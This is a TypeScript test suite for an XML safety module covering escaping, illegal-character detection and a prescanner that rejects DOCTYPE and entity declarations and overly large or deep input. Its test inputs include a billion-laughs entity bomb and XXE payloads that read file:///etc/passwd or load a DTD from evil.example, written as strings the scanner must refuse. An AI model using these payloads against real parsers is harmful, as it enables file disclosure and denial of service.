import { XMLParser, XMLValidator } from 'fast-xml-parser';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { DEFAULT_XML_LIMITS, escapeAttr, escapeText, findIllegalXmlChar, prescanXml } from './safety';

/** Decode the five predefined entities and numeric character references. */
function unescapeXml(s: string): string {
  const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
  return s.replace(/&(amp|lt|gt|quot|apos|#[0-9]+|#x[0-9a-fA-F]+);/g, (_, ref: string) =>
    ref.startsWith('#x')
      ? String.fromCodePoint(parseInt(ref.slice(2), 16))
      : ref.startsWith('#')
        ? String.fromCodePoint(parseInt(ref.slice(1), 10))
        : (named[ref] as string),
  );
}

/** Every `&` starts one of the predefined entities or a numeric character reference. */
const ONLY_GOOD_AMPERSANDS = /^(?:[^&]|&(?:amp|lt|gt|quot|apos|#[0-9]+|#x[0-9a-fA-F]+);)*$/;

/** Reference implementation of the XML 1.0 Char production, walking code points by hand. */
function referenceIllegal(s: string): { index: number; codePoint: number } | undefined {
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    if (c >= 0xd800 && c <= 0xdbff) {
      const d = s.charCodeAt(i + 1);
      if (d >= 0xdc00 && d <= 0xdfff) {
        i++;
        continue;
      }
      return { index: i, codePoint: c };
    }
    const ok = c === 9 || c === 10 || c === 13 || (c >= 0x20 && c <= 0xd7ff) || (c >= 0xe000 && c <= 0xfffd);
    if (!ok) return { index: i, codePoint: c };
  }
  return undefined;
}

const anyUnits = fc
  .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 40 })
  .map((a) => String.fromCharCode(...a));
const anyString = fc.oneof(fc.string({ unit: 'binary' }), anyUnits, fc.string());
const xmlText = fc
  .string({ unit: 'binary', minLength: 1 })
  .filter((s) => findIllegalXmlChar(s) === undefined);

function codes(r: ReturnType<typeof prescanXml>): string[] {
  return r.ok ? [] : r.issues.map((i) => i.code).sort();
}

describe('escapeText', () => {
  it('escapes the five special characters and CR', () => {
    expect(escapeText(`Fish & chips <frozen> "x" 'y'\r\n`)).toBe(
      'Fish &amp; chips &lt;frozen&gt; &quot;x&quot; &apos;y&apos;&#13;\n',
    );
  });

  it('leaves tabs and line feeds alone in text', () => {
    expect(escapeText('a\tb\nc')).toBe('a\tb\nc');
  });

  it('returns the very same string when nothing needs escaping', () => {
    const s = 'plain text, nothing special: äöü 😀';
    expect(escapeText(s)).toBe(s);
    expect(escapeText('')).toBe('');
  });

  it('escapes an existing entity again (no double-unescape shortcut)', () => {
    expect(escapeText('&amp;')).toBe('&amp;amp;');
  });

  it('property: output has no raw < > quotes or CR, and every & starts an entity', () => {
    fc.assert(
      fc.property(anyString, (s) => {
        const out = escapeText(s);
        expect(out).not.toMatch(/[<>"'\r]/);
        expect(out).toMatch(ONLY_GOOD_AMPERSANDS);
      }),
    );
  });

  it('property: unescaping gives back the input', () => {
    fc.assert(
      fc.property(anyString, (s) => {
        expect(unescapeXml(escapeText(s))).toBe(s);
      }),
    );
  });
});

describe('escapeAttr', () => {
  it('escapes the five special characters and TAB, LF, CR', () => {
    expect(escapeAttr(`a "q" 'a' <b> & c\t\n\r`)).toBe(
      'a &quot;q&quot; &apos;a&apos; &lt;b&gt; &amp; c&#9;&#10;&#13;',
    );
  });

  it('returns the very same string when nothing needs escaping', () => {
    const s = 'urn:oasis:names:tc:ebcore:partyid-type:unregistered:eu-customs:EORI';
    expect(escapeAttr(s)).toBe(s);
  });

  it('property: output has no raw < > quotes or whitespace controls, every & starts an entity, round-trips', () => {
    fc.assert(
      fc.property(anyString, (s) => {
        const out = escapeAttr(s);
        expect(out).not.toMatch(/[<>"'\t\n\r]/);
        expect(out).toMatch(ONLY_GOOD_AMPERSANDS);
        expect(unescapeXml(out)).toBe(s);
      }),
    );
  });

  it('property: a real parser reads back the escaped text and attribute unchanged', () => {
    const parser = new XMLParser({
      ignoreAttributes: false,
      attributeNamePrefix: '@',
      parseTagValue: false,
      parseAttributeValue: false,
      trimValues: false,
      processEntities: true,
      htmlEntities: true, // fast-xml-parser decodes numeric character references only with this
    });
    fc.assert(
      fc.property(xmlText, (s) => {
        const xml = `<r a="${escapeAttr(s)}">${escapeText(s)}</r>`;
        expect(prescanXml(xml).ok).toBe(true);
        const parsed = parser.parse(xml) as { r: { '#text': string; '@a': string } };
        expect(parsed.r['#text']).toBe(s);
        expect(parsed.r['@a']).toBe(s);
      }),
      { numRuns: 300 },
    );
  });
});

describe('findIllegalXmlChar', () => {
  it.each([
    [0x0, false],
    [0x8, false],
    [0x9, true],
    [0xa, true],
    [0xb, false],
    [0xc, false],
    [0xd, true],
    [0x1f, false],
    [0x20, true],
    [0x7f, true],
    [0xd7ff, true],
    [0xe000, true],
    [0xfffd, true],
    [0xfffe, false],
    [0xffff, false],
    [0x10000, true],
    [0x1f600, true],
    [0x10ffff, true],
  ])('code point U+%s allowed: %s', (cp, allowed) => {
    const s = `ab${String.fromCodePoint(cp)}cd`;
    expect(findIllegalXmlChar(s)).toEqual(allowed ? undefined : { index: 2, codePoint: cp });
  });

  it('refuses lone surrogates, accepts pairs', () => {
    expect(findIllegalXmlChar('x\uD800')).toEqual({ index: 1, codePoint: 0xd800 });
    expect(findIllegalXmlChar('\uDC00x')).toEqual({ index: 0, codePoint: 0xdc00 });
    expect(findIllegalXmlChar('\uDC00\uD800')).toEqual({ index: 0, codePoint: 0xdc00 });
    expect(findIllegalXmlChar('\uD83D\uDE00')).toBeUndefined();
    expect(findIllegalXmlChar('\uD83D\uDE00\uDE00')).toEqual({ index: 2, codePoint: 0xde00 });
  });

  it('gives the UTF-16 index after astral characters', () => {
    expect(findIllegalXmlChar('😀😀\u0001')).toEqual({ index: 4, codePoint: 1 });
  });

  it('accepts the empty string', () => {
    expect(findIllegalXmlChar('')).toBeUndefined();
  });

  it('property: agrees with a code-point-by-code-point reference', () => {
    fc.assert(
      fc.property(anyString, (s) => {
        expect(findIllegalXmlChar(s)).toEqual(referenceIllegal(s));
      }),
    );
  });
});

const LEGIT = `<?xml version="1.0" encoding="UTF-8"?>
<!-- an IE3F32-like sample; a comment may say <!DOCTYPE x> or &nbsp; safely -->
<ie:IE3F32 xmlns:ie="urn:wco:datamodel:eu:ics2:2" xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance'>
  <?app-hint keep &this; as is?>
  <LRN>LRN&amp;&lt;&gt;&quot;&apos;&#65;&#x42;&#x1F600;&#0000067;</LRN>
  <note when="a > b" other='x "/>" y' amp="&amp;&#9;"/>
  <goodsItem><commodity><descriptionOfGoods><![CDATA[Shoes & <socks> &nbsp; ]]></descriptionOfGoods></commodity></goodsItem>
  <empty/>
  <empty />
  <text>Tab\there</text>
</ie:IE3F32>
`;

describe('prescanXml', () => {
  it('accepts legitimate XML and reports its depth and element count', () => {
    expect(prescanXml(LEGIT)).toEqual({ ok: true, value: { depth: 4, elements: 9 } });
  });

  it('exports the default limits: 10 MiB and 64 levels, frozen', () => {
    expect(DEFAULT_XML_LIMITS).toEqual({ maxBytes: 10 * 1024 * 1024, maxDepth: 64 });
    expect(Object.isFrozen(DEFAULT_XML_LIMITS)).toBe(true);
  });

  it('refuses a 100 MB string in O(1), before looking at it', () => {
    const big = 'a'.repeat(100 * 1024 * 1024);
    const t0 = performance.now();
    const r = prescanXml(big);
    const ms = performance.now() - t0;
    expect(codes(r)).toEqual(['xml_too_large']);
    expect(ms).toBeLessThan(20);
  });

  it('counts UTF-8 bytes, not UTF-16 units', () => {
    expect(prescanXml('<a>ééééé</a>', { maxBytes: 17 }).ok).toBe(true); // 7 + 10 bytes
    expect(codes(prescanXml('<a>éééééé</a>', { maxBytes: 18 }))).toEqual(['xml_too_large']); // 19 bytes
    expect(prescanXml('<a>€</a>', { maxBytes: 10 }).ok).toBe(true); // 3 bytes
    expect(codes(prescanXml('<a>😀😀</a>', { maxBytes: 14 }))).toEqual(['xml_too_large']); // 15 bytes
    expect(prescanXml('<a>😀😀</a>', { maxBytes: 15 }).ok).toBe(true);
  });

  it('accepts a document of exactly maxBytes and refuses one byte more', () => {
    expect(prescanXml('<a>xy</a>', { maxBytes: 9 }).ok).toBe(true);
    expect(codes(prescanXml('<a>xyz</a>', { maxBytes: 9 }))).toEqual(['xml_too_large']);
  });

  it('refuses 10,000 levels of nesting without recursion', () => {
    const deep = '<a>'.repeat(10_000) + '</a>'.repeat(10_000);
    const r = prescanXml(deep);
    expect(codes(r)).toEqual(['xml_too_deep']);
    expect(r.ok ? '' : r.issues[0]?.message).toContain('deeper than 64');
    // The scanner has no stack: with a higher limit the same input passes.
    expect(prescanXml(deep, { maxDepth: 10_000 })).toEqual({
      ok: true,
      value: { depth: 10_000, elements: 10_000 },
    });
  });

  it('refuses a million unclosed levels quickly', () => {
    const t0 = performance.now();
    expect(codes(prescanXml('<a>'.repeat(1_000_000)))).toEqual(['xml_too_deep']);
    expect(performance.now() - t0).toBeLessThan(2000);
  });

  it('accepts depth == maxDepth and refuses maxDepth + 1; empty-element tags add no depth', () => {
    const nest = (d: number): string => '<a>'.repeat(d) + '</a>'.repeat(d);
    expect(prescanXml(nest(64)).ok).toBe(true);
    expect(codes(prescanXml(nest(65)))).toEqual(['xml_too_deep']);
    expect(prescanXml(`<r>${'<e/>'.repeat(1000)}<e x="/"></e></r>`, { maxDepth: 2 })).toEqual({
      ok: true,
      value: { depth: 2, elements: 1002 },
    });
  });

  it('property: nesting d passes iff d <= maxDepth', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 150 }), fc.integer({ min: 1, max: 150 }), (d, maxDepth) => {
        const xml = '<a x="1">'.repeat(d) + '<leaf/>' + '</a>'.repeat(d);
        expect(prescanXml(xml, { maxDepth }).ok).toBe(d <= maxDepth);
      }),
    );
  });

  it('refuses the billion laughs', () => {
    const lol = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ELEMENT lolz (#PCDATA)>
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<lolz>&lol9;</lolz>`;
    const r = prescanXml(lol);
    expect(codes(r)).toEqual(['xml_doctype', 'xml_entity']);
    expect(r.ok ? [] : r.issues.map((i) => i.message)).toEqual([
      'A document type declaration (<!DOCTYPE) is not allowed, at offset 22 (line 2, column 1)',
      'An entity declaration (<!ENTITY) is not allowed, at offset 40 (line 3, column 2)',
    ]);
  });

  it.each([
    ['external entity', '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'],
    ['parameter entity', '<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]><foo/>'],
    ['lower-case keywords', '<!doctype foo [<!entity xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'],
    ['">" inside a quoted literal', '<!DOCTYPE foo [<!ENTITY x "a>b">]><foo/>'],
  ])('refuses XXE: %s', (_, xml) => {
    expect(codes(prescanXml(xml))).toEqual(['xml_doctype', 'xml_entity']);
  });

  it('refuses an external DTD and other markup declarations', () => {
    expect(codes(prescanXml('<!DOCTYPE foo SYSTEM "http://evil.example/foo.dtd"><foo/>'))).toEqual([
      'xml_doctype',
    ]);
    expect(codes(prescanXml('<!DOCTYPE foo PUBLIC "-//X//Y" "x.dtd" [<!-- ] > --> ]><foo/>'))).toEqual([
      'xml_doctype',
    ]);
    expect(codes(prescanXml('<!ELEMENT foo ANY><foo/>'))).toEqual(['xml_doctype']);
    expect(codes(prescanXml('<!ENTITY x "y"><foo/>'))).toEqual(['xml_entity']);
  });

  it.each([
    ['undefined entity in text', '<a>&lol9;</a>'],
    ['HTML entity', '<a>&nbsp;</a>'],
    ['entity in an attribute', '<a x="&ext;"/>'],
    ['entity in a single-quoted attribute', "<a x='&ext;'/>"],
    ['bare ampersand', '<a>fish & chips</a>'],
    ['missing semicolon', '<a>&amp</a>'],
    ['empty character reference', '<a>&#;</a>'],
    ['bad hex digits', '<a>&#xZZ;</a>'],
  ])('refuses entity references: %s', (_, xml) => {
    expect(codes(prescanXml(xml))).toEqual(['xml_entity']);
  });

  it.each([
    ['NUL', '<a>&#0;</a>'],
    ['vertical tab', '<a>&#x0B;</a>'],
    ['surrogate', '<a>&#xD800;</a>'],
    ['U+FFFE', '<a x="&#65534;"/>'],
    ['beyond Unicode', '<a>&#x110000;</a>'],
    ['huge number', `<a>&#${'9'.repeat(400)};</a>`],
  ])('refuses character references to characters XML does not allow: %s', (_, xml) => {
    expect(codes(prescanXml(xml))).toEqual(['xml_char_ref']);
  });

  it('ignores references and declarations inside comments, CDATA, processing instructions and attributes', () => {
    const xml = `<a><!-- &x; <!DOCTYPE a> <!ENTITY e "x"> --><![CDATA[&y; <!DOCTYPE a>]]><?pi &z; <!ENTITY?><b t="<!DOCTYPE" u='<!ENTITY'/></a>`;
    expect(prescanXml(xml)).toEqual({ ok: true, value: { depth: 1, elements: 2 } });
  });

  it('treats "<!-->" as the start of a comment, as fast-xml-parser does', () => {
    const xml = '<a><!--><!DOCTYPE x [<!ENTITY e "boom">]>--><b>&amp;</b></a>';
    expect(prescanXml(xml).ok).toBe(true);
    const parsed = new XMLParser().parse(xml) as unknown;
    expect(parsed).toEqual({ a: { b: '&' } });
  });

  it('refuses characters XML 1.0 does not allow, with line and column', () => {
    const r = prescanXml('<a>\n  x\u0001</a>');
    expect(r).toEqual({
      ok: false,
      issues: [
        {
          code: 'xml_illegal_char',
          severity: 'error',
          path: [],
          pointer: '',
          message: 'Character U+0001 is not allowed in XML 1.0, at offset 7 (line 2, column 4)',
        },
      ],
    });
    expect(codes(prescanXml('<a>\uD800</a>'))).toEqual(['xml_illegal_char']);
  });

  it.each([
    ['comment', '<a><!-- never closed'],
    ['CDATA', '<a><![CDATA[ never closed'],
    ['processing instruction', '<?xml version="1.0"'],
    ['end tag', '<a></a'],
    ['start tag', '<a x="1"'],
    ['attribute value', '<a x="1>'],
    ['declaration', '<!DOCTYPE a ['],
  ])('refuses unterminated markup: %s', (_, xml) => {
    expect(codes(prescanXml(xml))).toContain('xml_unterminated');
  });

  it('reports each kind of problem once, with every kind found', () => {
    const r = prescanXml('<!DOCTYPE a><a>&x; &y; &#0; &#1;<b>\u0002</b></a>');
    expect(codes(r)).toEqual(['xml_char_ref', 'xml_doctype', 'xml_entity', 'xml_illegal_char']);
  });

  it('accepts text without markup and the empty string', () => {
    expect(prescanXml('')).toEqual({ ok: true, value: { depth: 0, elements: 0 } });
    expect(prescanXml('just text &amp; more')).toEqual({ ok: true, value: { depth: 0, elements: 0 } });
  });

  it('tolerates stray end tags (well-formedness is the parser’s job)', () => {
    expect(prescanXml('</a></b><c/>')).toEqual({ ok: true, value: { depth: 0, elements: 1 } });
  });

  it('refuses bad limits and non-string input with issues, never a throw', () => {
    expect(codes(prescanXml('<a/>', { maxDepth: 0 }))).toEqual(['bad_limit']);
    expect(codes(prescanXml('<a/>', { maxBytes: -1, maxDepth: Number.NaN }))).toEqual([
      'bad_limit',
      'bad_limit',
    ]);
    expect(codes(prescanXml('<a/>', { maxBytes: 1.5 }))).toEqual(['bad_limit']);
    expect(codes(prescanXml(42 as unknown as string))).toEqual(['not_a_string']);
    expect(prescanXml('<a/>', null as unknown as undefined).ok).toBe(true);
  });

  it('does not go quadratic on adversarial inputs', () => {
    const cases = [
      `<a>${'&amp;'.repeat(200_000)}</a>`,
      `<a><![CDATA[${'&'.repeat(1_000_000)}]]></a>`,
      `${'<!x>'.repeat(200_000)}`,
      `<a>${'<b x="&amp;" y=\'&#65;\'/>'.repeat(100_000)}</a>`,
      `<a>${'&'.repeat(1_000_000)}</a>`,
      `${'<!DOCTYPE a>'.repeat(100_000)}`,
    ];
    for (const xml of cases) {
      const t0 = performance.now();
      prescanXml(xml);
      expect(performance.now() - t0).toBeLessThan(1500);
    }
  });

  it('property: never throws on arbitrary input', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '/',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '<?',
      '?>',
      '<!DOCTYPE',
      '<!ENTITY',
      '[',
      ']',
      '&',
      '&amp;',
      '&#',
      ';',
      '"',
      "'",
      'a',
      ' ',
      '=',
      '\n',
    );
    const markupSoup = fc.array(piece, { maxLength: 60 }).map((a) => a.join(''));
    fc.assert(
      fc.property(fc.oneof(markupSoup, anyString), (s) => {
        const r = prescanXml(s);
        expect(typeof r.ok).toBe('boolean');
        if (!r.ok) expect(r.issues.length).toBeGreaterThan(0);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('prescanXml with { wellFormed: true }', () => {
  const wf = (xml: string): string[] => codes(prescanXml(xml, {}, { wellFormed: true }));

  it('accepts well-formed documents, the same as without the option', () => {
    expect(prescanXml(LEGIT, {}, { wellFormed: true })).toEqual(prescanXml(LEGIT));
    const ok = [
      '<a/>',
      '\uFEFF<?xml version="1.0"?>\n<a x="1 > 0" y=\'--&gt;\'><b>t &amp; &#13;</b><c/><!-- c --><![CDATA[<x>]]></a>\n',
      '<p:a xmlns:p="u"><p:b>x</p:b ></p:a>',
      '<a\n  x = "1"\ty="2"\n/>',
      '<?pi x?><a/><?pi y?><!-- after -->',
      '<é>x</é>',
    ];
    for (const xml of ok) expect([xml, wf(xml)]).toEqual([xml, []]);
  });

  it.each([
    ['a mismatched end tag', '<a><b></a>'],
    ['a mismatched end tag, prefixed', '<p:a><p:b></p:c></p:a>'],
    ['an unclosed element', '<a><b></b>'],
    ['an unclosed nested element', '<a><b>x</a>'],
    ['an end tag with no start tag', '<a></a></b>'],
    ['a stray end tag first', '</a><a/>'],
    ['no root element', 'not xml at all'],
    ['the empty document', ''],
    ['two root elements', '<a/><b/>'],
    ['text after the root', '<a/>x'],
    ['text before the root', 'x<a/>'],
    ['CDATA outside the root', '<![CDATA[x]]><a/>'],
    ['an attribute without quotes', '<a x=1/>'],
    ['an attribute without a value', '<a x/>'],
    ['no space between attributes', '<a x="1"y="2"/>'],
    ['a repeated attribute', '<a x="1" x="2"/>'],
    ['< in an attribute value', '<a x="<"/>'],
    ['a bad element name', '<1a/>'],
    ['a lone <', '<a>1 < 2</a>'],
    ['attributes on an end tag', '<a></a x="1">'],
    ['an XML declaration not at the start', '<a/><?xml version="1.0"?>'],
  ])('refuses %s with xml_syntax', (_, xml) => {
    expect(wf(xml)).toContain('xml_syntax');
  });

  it('names the tags in the message, with line and column', () => {
    const r = prescanXml('<a>\n<b></a>', {}, { wellFormed: true });
    expect(r.ok ? '' : r.issues[0]?.message).toBe(
      'End tag </a> does not match start tag <b>, at offset 7 (line 2, column 4)',
    );
  });

  it('keeps the other checks and their codes', () => {
    expect(wf('<!DOCTYPE a><a>&x;</a>')).toEqual(['xml_doctype', 'xml_entity']);
    expect(wf('<a>'.repeat(100) + '</a>'.repeat(100))).toEqual(['xml_too_deep']);
  });

  it('stays linear on deep and wide documents', () => {
    const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    const wide = `<r>${'<e x="1" y="2">t</e>'.repeat(200_000)}</r>`;
    for (const xml of [deep, wide]) {
      const t0 = performance.now();
      prescanXml(xml, { maxDepth: 200_000, maxBytes: 1 << 30 }, { wellFormed: true });
      expect(performance.now() - t0).toBeLessThan(1500);
    }
  });

  it('property: agrees with fast-xml-parser’s XMLValidator on documents of nested tags', () => {
    const tag = fc.constantFrom('a', 'b', 'p:c');
    const piece = fc.oneof(
      tag.map((t) => `<${t}>`),
      tag.map((t) => `</${t}>`),
      tag.map((t) => `<${t}/>`),
      fc.constant('x'),
      fc.constant(' '),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
        // One root element: the validator does not refuse some documents with several roots.
        const xml = `<r>${parts.join('')}</r>`;
        expect(prescanXml(xml, {}, { wellFormed: true }).ok).toBe(XMLValidator.validate(xml) === true);
      }),
      { numRuns: 3000 },
    );
  });
});
